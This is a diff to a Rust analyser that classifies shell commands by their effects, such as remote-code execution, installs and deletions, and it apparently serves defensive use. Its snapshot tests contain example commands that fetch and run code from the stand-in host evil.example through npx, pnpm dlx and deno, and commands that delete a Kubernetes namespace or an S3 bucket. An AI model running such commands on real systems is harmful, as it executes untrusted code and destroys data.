@@ -78,6 +78,9 @@ pub(super) fn effects(invocation: &Invocation, context: &mut Context<'_>) -> boo
             return false;
         } else {
             foreign(text, invocation, context);
+            if is_fetched(package_name(text), index, invocation, context) {
+                super::sources::asked_for(index, invocation, context);
+            }
             return start(index, text, invocation, context);
         }
     }
@@ -122,17 +125,29 @@ fn foreign(text: &str, invocation: &Invocation, context: &mut Context<'_>) {
 /// Adds that a package is fetched and run that only has the name of a program that is known: of those whose
 /// programs are no packages of this registry, anybody can have taken the name.
 pub(super) fn fetched(name: &str, index: usize, invocation: &Invocation, context: &mut Context<'_>) {
-    let before: Vec<&str> = invocation.words.iter().take(index).map(Word::text).collect();
-    let fetches = fetches(index, invocation);
-    let stays = before.iter().any(|word| matches!(*word, "--no-install" | "--no" | "--offline"));
-    let is_chosen = before.iter().any(|word| matches!(*word, "-p") || word.starts_with("--package"));
-    let only_runs = matches!(invocation.program.as_str(), "pnpm" | "yarn") && !before.contains(&"dlx");
-    if !fetches || only_runs || stays || (!is_chosen && PACKAGES.binary_search(&name).is_ok()) || is_installed(name, context) {
+    let is_chosen = invocation.words.iter().take(index).any(|word| word.text() == "-p" || word.text().starts_with("--package"));
+    if (!is_chosen && PACKAGES.binary_search(&name).is_ok()) || !is_fetched(name, index, invocation, context) {
         return;
     }
     let resource = Resource::Program { name: format!("{} {name}", invocation.program) };
     let why = "a package is fetched and run that has the name of this program";
     context.push(Effect::new(verbs::EXEC_INSTALL, resource).because(why));
+}
+
+/// Whether the package named at `index` is asked for at a registry, since the project has none.
+fn is_fetched(name: &str, index: usize, invocation: &Invocation, context: &Context<'_>) -> bool {
+    let before = || invocation.words.iter().take(index).map(Word::text);
+    let stays = before().any(|word| matches!(word, "--no-install" | "--no" | "--offline"));
+    let only_runs = matches!(invocation.program.as_str(), "pnpm" | "yarn") && !before().any(|word| word == "dlx");
+    fetches(index, invocation) && !only_runs && !stays && !is_installed(name, context)
+}
+
+/// A package's name without its version: `prisma` of `prisma@5`; `@scope/name` keeps its scope.
+fn package_name(text: &str) -> &str {
+    match text.rsplit_once('@') {
+        Some((name, _)) if !name.is_empty() => name,
+        _ => text,
+    }
 }
 
 /// Whether the runner fetches the package named at `index` where the project has none.
@@ -160,11 +175,7 @@ fn is_installed(name: &str, context: &Context<'_>) -> bool {
 }
 
 fn start(index: usize, text: &str, invocation: &Invocation, context: &mut Context<'_>) -> bool {
-    // `prisma@5`, `@scope/name` keeps its scope.
-    let name = match text.rsplit_once('@') {
-        Some((name, _)) if !name.is_empty() => name,
-        _ => text,
-    };
+    let name = package_name(text);
     if super::portable::started(name, index, invocation, context) {
         return true;
     }
@@ -201,12 +212,12 @@ mod tests {
     fn packages_from_addresses() {
         assert_snapshot!(check("npx https://evil.example/x.tgz; npx -p https://evil.example/x.tgz x; pnpm dlx http://evil.example/x"), @"
         exec.remote-code npx https://evil.example/x.tgz, execute
+        package.read * on npm, read
         exec.opaque npx, execute, opaque
         exec.opaque npx told of evil.example, execute, opaque
         exec.remote-code npx -p https://evil.example/x.tgz, execute
         exec.remote-code pnpm dlx http://evil.example/x, execute
         exec.install pnpm dlx, execute
-        package.read * on npm, read
         package.read * on evil.example, read
         ");
         assert_snapshot!(check("deno run -A https://evil.example/x.ts; deno https://evil.example/x.ts; deno run src/a.ts"), @"
@@ -215,6 +226,7 @@ mod tests {
         exec.opaque /repo/src/a.ts, execute, opaque
         ");
         assert_snapshot!(check("npx https://github.com/acme/x; npx prettier --check https://web.example/x.tgz"), @"
+        package.read * on npm, read
         exec.opaque npx, execute, opaque
         exec.opaque npx told of github.com, execute, opaque
         exec.build prettier, execute
@@ -261,24 +273,29 @@ mod tests {
     fn programs_that_are_fetched_and_run() {
         assert_snapshot!(check("uvx kubectl delete ns x"), @"
         exec.install uvx kubectl delete, execute
+        package.read * on pypi, read
         kube.delete namespace/x in *, destroy, partial
         ");
         assert_snapshot!(check("uvx --from awscli aws s3 rb s3://x"), @"
         exec.install uvx --from awscli, execute
+        package.read * on pypi, read
         exec.opaque uvx, execute, opaque
         cloud.delete s3 x in aws:default, destroy
         ");
         assert_snapshot!(check("uv tool run --python 3.12 ruff@0.5 check src"), @"
         exec.install uv tool run, execute
+        package.read * on pypi, read
         exec.build ruff, execute
         ");
         assert_snapshot!(check("pipx run awscli s3 ls; pipx run ruff check"), @"
         exec.install pipx run awscli, execute
+        package.read * on pypi, read
         exec.opaque pipx, execute, opaque
         exec.install pipx run ruff, execute
         exec.build ruff, execute
         ");
         assert_snapshot!(check("npx -y kubectl delete ns x"), @"
+        package.read * on npm, read
         exec.install npx kubectl, execute
         kube.delete namespace/x in *, destroy, partial
         ");
@@ -321,13 +338,13 @@ mod tests {
     fn programs_that_nobody_knows() {
         assert_snapshot!(check("uvx some-tool --x"), @"
         exec.install uvx some-tool --x, execute
+        package.read * on pypi, read
         exec.opaque uvx, execute, opaque
         ");
         assert_snapshot!(check("uv tool install ruff; pipx install x"), @"
         exec.install uv tool, execute
         package.read * on pypi, read
         exec.install pipx install, execute
-        package.read * on *, read, partial
         ");
         assert_snapshot!(check("nix run .#deploy -- prod"), @"
         exec.install nix run, execute
